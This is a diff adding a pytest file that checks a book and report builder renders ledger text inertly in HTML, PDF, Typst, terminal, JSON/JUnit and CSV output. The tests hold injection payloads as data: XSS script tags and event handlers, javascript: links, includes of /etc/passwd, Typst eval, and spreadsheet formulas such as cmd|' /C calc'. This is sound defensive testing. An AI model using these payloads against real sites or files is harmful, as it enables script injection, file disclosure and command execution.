@@ -1,0 +1,313 @@
+"""Text of data and YAML is text wherever it arrives: on a page, in print, in a terminal, in a CSV."""
+
+import csv
+import io
+import json
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+from xml.etree import ElementTree
+
+import pandas as pd
+import pytest
+import yaml
+from pypdf import PdfReader
+
+from letter.display import overview
+from letter.display.downloads import csv_text
+from reproduction.book import BookError, build, pdf
+from reproduction.claims import Checks, Computed, Entry, evaluate, load_ledger
+from reproduction.claims.report import Comparison, Outcome, as_json, as_junit, as_rows, as_text
+from reproduction.inputs.defects import Defect, InputError, printable
+from reproduction.inputs.text import is_hidden
+
+# What would happen if it were more than text: 1729 and 4104 would be on the page.
+HOSTILE = (
+    "<script>document.write(1728+1)</script>",
+    "</script><script src=//example.org/x.js></script>",
+    '"><img src=x onerror=alert(1)>',
+    "' onmouseover='alert(1)",
+    "</td></tr></table></main><iframe src=x>",
+    "[a](javascript:alert(1)) and <javascript:alert(2)>",
+    "[a]{.x onclick=alert(1)}]{.x}",
+    "`<b>raw</b>`{=html} and `#(1728+1)`{=typst}",
+    "`{python} 1728 + 1`",
+    "{{< include /etc/passwd >}} and {{< env HOME >}}",
+    '#eval("1728+1") #(4103+1) $1728+1$',
+    "#import \"@preview/x:1.0.0\": * #include \"/etc/passwd\"",
+    "*strong* _emph_ ~~gone~~ ^up^ H~2~O <!-- hidden -->",
+    "@nobody2000 [@nobody2000] [^1] \\input{/etc/passwd}",
+    "a | b || c | d",
+    "&lt;b&gt; &amp; &#60;script&#62;",
+    "::: {.callout-note} :::",
+    "--- ... -- \" '",
+    "# A heading - and a list",
+)  # fmt: skip
+IN_PRINT = (  # these have the same letters in the PDF's font, on one line
+    "#(4103+1)", "[a](javascript:alert(1))", "<script>document.write(1728+1)</script>",
+    "{{< env HOME >}}", "a | b || c | d",
+)  # fmt: skip
+
+CELL = """\
+from pathlib import Path
+from reproduction.claims import Checks, evaluate, load_ledger
+from reproduction.claims.display import InlineClaim, Markdown, check_table, escape
+from reproduction.claims.report import Outcome
+from letter.display.overview import ledger_markdown
+results = evaluate(load_ledger(Path("claims.yaml")), Checks(), None)
+"""
+CHAPTER = f"""\
+---
+title: Hostile *values* {{#sec-hostile}}
+---
+
+```{{python}}
+#| include: false
+{CELL}```
+
+```{{python}}
+#| echo: false
+#| output: asis
+print(check_table(results, "index.qmd"))
+```
+
+```{{python}}
+#| echo: false
+#| output: asis
+print(ledger_markdown(Outcome(results)))
+```
+
+INLINE
+"""
+
+
+def written(folder: Path) -> Path:
+    """A book that shows the hostile values in every place that shows a ledger's text."""
+    items = [
+        {
+            "id": f"value-{n}", "at": "p1", "prints": ["4"], "says": f"A {value}",
+            "basis": "unpublished", "expect": "not_derivable",
+            "because": f"B {value}".replace("{", "(").replace("}", ")"),
+        }
+        for n, value in enumerate(HOSTILE)
+    ]  # fmt: skip
+    inline = "\n\n".join(
+        f"`{{python}} Markdown(escape(results[{n}].because))` "
+        f'`{{python}} InlineClaim(results[{n}], results[{n}].entry.says.replace("{{", "{{{{")'
+        f'.replace("}}", "}}}}") + " is {{0}}", "index.qmd")`'
+        for n in range(len(HOSTILE))
+    )
+    config = {
+        "project": {"type": "book"},
+        "book": {
+            "title": HOSTILE[0],
+            "subtitle": HOSTILE[10],
+            "author": [HOSTILE[2], {"name": HOSTILE[7]}],
+            "description": HOSTILE[4],
+            "output-file": "hostile",
+            "chapters": ["index.qmd"],
+        },
+        "format": {"html": {"code-summary": HOSTILE[2], "code-fold": True}},
+    }
+    for name, text in [
+        ("claims.yaml", yaml.safe_dump(items, sort_keys=False)),
+        ("_quarto.yml", yaml.safe_dump(config)),
+        ("index.qmd", CHAPTER.replace("INLINE", inline)),
+    ]:
+        (folder / name).write_text(text, encoding="utf-8")
+    return folder
+
+
+class Page(HTMLParser):
+    """Elements with their attributes, and the text outside them."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.elements: list[tuple[str, dict[str, str | None]]] = []
+        self.text = ""
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attributes: Any) -> None:
+        self.elements.append((tag, dict(attributes)))
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+@pytest.fixture(scope="module")
+def book(tmp_path_factory) -> Path:
+    project = written(tmp_path_factory.mktemp("hostile"))
+    sources: list[str] = []
+    original = pdf.typst.compile_with_warnings
+    with pytest.MonkeyPatch.context() as patch:
+
+        def compile_and_keep(main: str, **options: Any) -> Any:
+            sources.append(Path(main).read_text(encoding="utf-8"))
+            return original(main, **options)
+
+        patch.setattr(pdf.typst, "compile_with_warnings", compile_and_keep)
+        build(project, report=[].append)
+    (project / "main.typ").write_text(sources[-1], encoding="utf-8")
+    return project
+
+
+@pytest.fixture(scope="module")
+def page(book) -> Page:
+    return Page((book / "_book" / "index.html").read_text(encoding="utf-8"))
+
+
+def test_on_a_page_all_of_it_is_text(page):
+    words = " ".join(page.text.split())
+    for value in HOSTILE:
+        assert words.count(f"A {value}") >= 3, value  # the two tables, and the claim in prose
+        assert words.count("B " + value.replace("{", "(").replace("}", ")")) >= 2, value
+    assert "1729" not in words
+    assert "4104" not in words
+    assert "root:" not in words
+
+
+def test_on_a_page_none_of_it_is_an_element_or_an_attribute(page):
+    names = {name for name, _ in page.elements}
+    scripts = {attributes.get("src") for name, attributes in page.elements if name == "script"}
+    assert scripts <= {"book.js"}  # the builder's own
+    assert not names & {"img", "iframe", "math", "mjx-container", "b", "del", "sub"}
+    for name, attributes in page.elements:
+        assert not [key for key in attributes if key.startswith("on")], (name, attributes)
+        href = attributes.get("href") or ""
+        assert not href.startswith(("javascript:", "//")), href
+    titles = [attributes["title"] for name, attributes in page.elements if "title" in attributes]
+    assert titles
+    assert all(title and title.startswith("status: not derivable") for title in titles)
+
+
+def test_the_head_of_a_page_has_it_as_text(page, book):
+    html = (book / "_book" / "index.html").read_text(encoding="utf-8")
+    assert html.count("<title>") == 1
+    metas = {a.get("name"): a.get("content") for name, a in page.elements if name == "meta"}
+    assert metas["author"] == f"{HOSTILE[2]}, {HOSTILE[7]}"
+    assert metas["description"] == HOSTILE[4]
+
+
+def test_in_print_all_of_it_is_text(book):
+    reader = PdfReader(book / "_book" / "hostile.pdf")
+    words = " ".join(" ".join(page.extract_text().split()) for page in reader.pages)
+    for value in IN_PRINT:
+        assert value in words, value
+    assert "1729" not in words
+    assert "4104" not in words
+    assert "root:" not in words
+    assert reader.metadata is not None
+    assert reader.metadata.title == HOSTILE[0]
+    links = [a.get_object() for page in reader.pages for a in page.get("/Annots") or []]
+    assert not [link for link in links if "javascript" in str(link.get("/A", ""))]
+
+
+def test_in_the_typesetters_source_no_code_comes_from_it(book):
+    source = (book / "main.typ").read_text(encoding="utf-8")
+    body = source[source.index("\n\n") :]
+    for code in ("#eval(", "#(1728", "#(4103", "#import ", "#include ", "$1728"):
+        at = 0
+        while (at := body.find(code, at) + 1) > 0:
+            # In Typst, a backslash before it makes it text, as a string's quotes do.
+            assert body[at - 2] == "\\" or in_a_string(body, at - 1), body[at - 20 : at + 20]
+
+
+def in_a_string(text: str, position: int) -> bool:
+    line = text[text.rindex("\n", 0, position) : position]
+    return line.replace('\\"', "").count('"') % 2 == 1
+
+
+# --- Titles and names
+
+
+@pytest.mark.parametrize(
+    "title", ["<script>alert(1)</script>", "A `<b>`{=html}", "A `#eval`{=typst}", "A <b>b</b>"]
+)
+def test_a_title_holds_no_code(tmp_path, title):
+    project = written(tmp_path)
+    (project / "index.qmd").write_text(f"---\ntitle: '{title}'\n---\n\nText\n", encoding="utf-8")
+    with pytest.raises(BookError) as caught:
+        build(project, report=[].append)
+    assert caught.value.exit_code == 2
+    assert "heading; expected" in str(caught.value)
+
+
+@pytest.mark.parametrize("title", ["a | b", "]{.x onclick=y}", "[a](javascript:x)", "<b>x</b>"])
+def test_a_title_in_the_ledger_is_text(tmp_path, title):
+    chapter = tmp_path / "chapter.qmd"
+    chapter.write_text(f'# {title}\n\n`{{python}} claim("a")`\n', encoding="utf-8")
+    link = overview._chapter_link(chapter)
+    start, end = link.index("["), link.rindex("](")
+    assert end == len(link) - len("](chapter.qmd)")
+    inner = link[start + 1 : end]
+    for special in "[]|<>{}":
+        assert inner.replace("\\" + special, "").count(special) == 0
+
+
+def test_a_file_that_does_not_exist_is_named_without_control_characters():
+    with pytest.raises(InputError) as caught:
+        load_ledger(Path("no\x1b[2J\u202e\udcff.yaml"))
+    assert str(caught.value).startswith("no\\x1b[2J\\u202e\\udcff.yaml: cannot be read")
+
+
+# --- Terminals and programs
+
+UNSEEN = "\x1b[31m \x9b2J \x07 \u202e \u200b \u2028 \r"
+
+
+def outcome(says: str, *differences: str) -> Outcome:
+    """One claim that is as expected, and cells that are not."""
+    entry = Entry.model_validate(
+        {"id": "a", "at": "p1", "prints": ["4"], "says": says, "basis": "patients",
+         "expect": "reproduced"}
+    )  # fmt: skip
+    check: Checks[None] = Checks()
+    check("a")(lambda _: Computed((4,)))
+    return Outcome(evaluate([entry], check, None), (Comparison("cells", 1, differences),))
+
+
+def test_a_terminal_gets_no_control_characters():
+    text = as_text(outcome(f"A{UNSEEN}", f"B{UNSEEN}"))
+    assert not any(is_hidden(character) for character in text.replace("\n", ""))
+    assert "B\\x1b[31m \\x9b2J \\x07 \\u202e \\u200b \\u2028 \\r" in text
+    assert str(Defect("f", "", UNSEEN, UNSEEN)).count("\\x1b") == 2
+    assert printable("é ≥ \u00a0 ½ 🦠") == "é ≥ \u00a0 ½ 🦠"
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_json_and_junit_keep_it_whole(value):
+    found = outcome(f"A {value}", value)
+    assert json.loads(as_json(found))["claims"][0]["says"] == f"A {value}"
+    root = ElementTree.fromstring(as_junit(found).encode())
+    assert [failure.text for failure in root.iter("failure")] == [value]
+    assert {element.tag for element in root.iter()} <= {
+        "testsuites", "testsuite", "testcase", "failure",
+    }  # fmt: skip
+
+
+# --- Spreadsheet programs
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["=1+1", "=cmd|' /C calc'!A1", "+1+cmd|' /C calc'!A1", "-2+3+cmd|' /C calc'!A1", "@SUM(A1)",
+     "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://example.org/?\"&A1)"],
+)  # fmt: skip
+def test_a_formula_is_in_no_download(value):
+    with pytest.raises(ValueError, match="expected text that is no formula"):
+        csv_text(pd.DataFrame({"text": ["plain", value]}))
+
+
+@pytest.mark.parametrize(
+    "value", ["-4.2", "-4.2, 3", "+5", "-", "–", "−3", "", "50% =", "a@b", "'"]
+)
+def test_other_text_is_in_a_download_as_it_is(value):
+    text = csv_text(pd.DataFrame({"text": [value], "number": [1]}))
+    assert list(csv.reader(io.StringIO(text)))[1] == [value, "1"]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_the_ledgers_download_keeps_it_whole(value):
+    frame = pd.DataFrame(as_rows(outcome(f"A {value}").results))
+    (row,) = csv.DictReader(io.StringIO(csv_text(frame)))
+    assert row["says"] == f"A {value}"
